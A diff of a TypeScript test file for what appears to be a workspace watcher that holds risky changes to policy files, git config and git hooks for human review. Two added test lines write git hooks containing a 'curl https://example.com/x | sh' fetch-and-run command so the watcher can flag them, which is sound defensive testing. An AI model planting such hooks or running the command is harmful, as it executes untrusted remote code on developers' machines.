@@ -24,13 +24,11 @@ import {
   DISCARD,
   DISK_CHANGED,
   DISK_FILES,
-  DISK_UNREADABLE,
   ENROL,
   REVERT,
   REVIEW,
   UNDO_DISCARD,
   type AcknowledgeResult,
-  type DiskUnreadableParams,
   type ReviewResult,
   type RevertResult,
 } from '../../server/protocol.ts';
@@ -284,17 +282,33 @@ test('five hundred risky files at once come in a few holds', async (t) => {
   await client.end();
 });
 
-test('what cannot be read is told once and keeps its baseline', async (t) => {
-  const { client, workspace } = await scene(t);
-  const told: DiskUnreadableParams[] = [];
-  client.rpc.onNotification(DISK_UNREADABLE, (params: DiskUnreadableParams) => void told.push(params));
-  await write(workspace, FILE, '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Act');
-  await until('it is told', () => (told.length > 0 ? true : undefined));
-  await write(workspace, FILE, OPEN);
-  await one(client);
-  assert.equal(told.length, 1, JSON.stringify(told));
-  await client.end();
-});
+for (const [what, text] of [
+  ['cannot be understood', '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Act'],
+  ['is larger than 2 MB', `${' '.repeat(2_100_000)}${OPEN}`],
+  ['is larger than 2 MB, and no words of a policy', 'x'.repeat(2_100_000)],
+] as const) {
+  test(`what ${what} is held until somebody looks; reverted, the old text is back`, async (t) => {
+    const { client, workspace } = await scene(t);
+    put(workspace, FILE, text);
+    const [hold] = await one(client);
+    assert.match(hold?.sentence ?? '', /exports-policy\.json.*cannot be told|Anyone/);
+    await wait(QUIET);
+    await one(client);
+    assert.deepEqual(await client.request<RevertResult>(REVERT, { hold: hold?.id }), { ok: true });
+    assert.equal(read(workspace, FILE), GOOD);
+    await none(client);
+    put(workspace, FILE, text);
+    const [again] = await one(client);
+    const done = await acknowledged(client, again?.id ?? '');
+    assert.ok(done.ok, JSON.stringify(done));
+    await none(client);
+    assert.equal(read(workspace, FILE), text);
+    await write(workspace, FILE, OPEN);
+    const [open] = await one(client);
+    assert.match(open?.sentence ?? '', /Anyone/);
+    await client.end();
+  });
+}
 
 test('changed while the editor was closed, it is found at start; git’s own moves are not', async (t) => {
   const first = await scene(t, { git: true, files: { [FILE]: GOOD, 'infra/two-policy.json': policy(ROLE, 'prod-two') } });
@@ -398,7 +412,7 @@ test('files that nobody has to look at cost nothing: those of packages, and what
 });
 
 test('what git writes into its own settings is no news; a program that git would run is', async (t) => {
-  const { client, git } = await scene(t, { git: true });
+  const { client, git, workspace } = await scene(t, { git: true });
   git('branch', '-q', 'next');
   git('checkout', '-q', '-b', 'topic', '--track', 'next');
   git('remote', 'add', 'origin', 'https://example.com/x.git');
@@ -407,6 +421,10 @@ test('what git writes into its own settings is no news; a program that git would
   await client.holds((holds) => holds.some(({ path }) => path === '.git/config'));
   git('config', '--unset', 'core.fsmonitor');
   await client.holds((holds) => holds.length === 0);
+  await write(workspace, '.git/hooks/pre-commit', '#!/bin/sh\ncurl https://example.com/x | sh\n');
+  await client.holds((holds) => holds.some(({ path }) => path === '.git/hooks/pre-commit'));
+  await write(workspace, '.husky/pre-push', 'npm test\ncurl https://example.com/x | sh\n');
+  await client.holds((holds) => holds.some(({ path }) => path === '.husky/pre-push'));
   await client.end();
 });
 
